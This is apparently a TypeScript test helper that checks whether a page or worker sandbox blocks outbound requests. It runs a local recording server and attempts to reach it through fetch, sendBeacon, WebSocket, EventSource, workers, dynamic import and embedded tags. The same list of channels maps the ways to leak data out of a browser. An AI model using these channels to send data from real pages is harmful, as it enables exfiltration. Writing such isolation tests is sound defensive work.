import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

interface ForeignHost {
  readonly url: string
  /** Requests that arrived; a blocked one never does. */
  readonly hits: readonly string[]
  close(): void
}

/** A host of somebody else that lets everybody in: what does not arrive here was stopped in the browser. */
export async function startForeignHost(): Promise<ForeignHost> {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.setHeader('cross-origin-resource-policy', 'cross-origin')
    response.end('')
  })
  server.on('upgrade', (request, socket) => {
    hits.push(`UPGRADE ${request.url}`)
    socket.destroy()
  })
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve)
  })
  const { port } = server.address() as AddressInfo
  return { url: `http://localhost:${port}`, hits, close: () => server.close() }
}

/** Runs in a page: tries every way out that markup and script have, then waits long enough for a request to arrive. */
export async function leakFromPage(foreign: string): Promise<void> {
  const add = (tag: string, attributes: Record<string, string>): void => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
  }
  const attempt = (act: () => unknown): void => {
    try {
      act()
    } catch {
      // Refused at once: as good as blocked.
    }
  }
  fetch(`${foreign}/fetch`).catch(() => {})
  attempt(() => navigator.sendBeacon(`${foreign}/beacon`, 'figures'))
  attempt(() => new WebSocket(`${foreign.replace('http', 'ws')}/socket`))
  attempt(() => new EventSource(`${foreign}/events`))
  attempt(() => new Worker(`data:text/javascript,fetch("${foreign}/data-worker")`))
  attempt(() => {
    const text = new Blob([`fetch("${foreign}/blob-worker")`], { type: 'text/javascript' })
    return new Worker(URL.createObjectURL(text))
  })
  attempt(() => add('img', { src: `${foreign}/image` }))
  attempt(() => add('script', { src: `${foreign}/script` }))
  attempt(() => add('link', { rel: 'stylesheet', href: `${foreign}/style` }))
  attempt(() => add('iframe', { src: `${foreign}/frame` }))
  attempt(() => add('object', { data: `${foreign}/object` }))
  attempt(() => add('video', { src: `${foreign}/video` }))
  await new Promise((resolve) => setTimeout(resolve, 2000))
}

/** Script of a worker that tries every way out of a worker, then says so. */
export const leakingWorker = (foreign: string): string => `
const attempts = [
  fetch('${foreign}/fetch'),
  import('${foreign}/module'),
  new Promise((done) => { const socket = new WebSocket('${foreign.replace('http', 'ws')}/socket'); socket.onerror = done }),
  new Promise((done) => { const events = new EventSource('${foreign}/events'); events.onerror = done }),
]
Promise.allSettled(attempts).then(() => postMessage('tried'))
`

/** Runs in a page: starts the worker at `path` and waits until it has tried everything, or could not start. */
export const runWorker = (path: string): Promise<string> =>
  new Promise((resolve) => {
    const worker = new Worker(path, { type: 'module' })
    worker.addEventListener('message', ({ data }) => resolve(String(data)))
    worker.addEventListener('error', () => resolve('did not start'))
  })
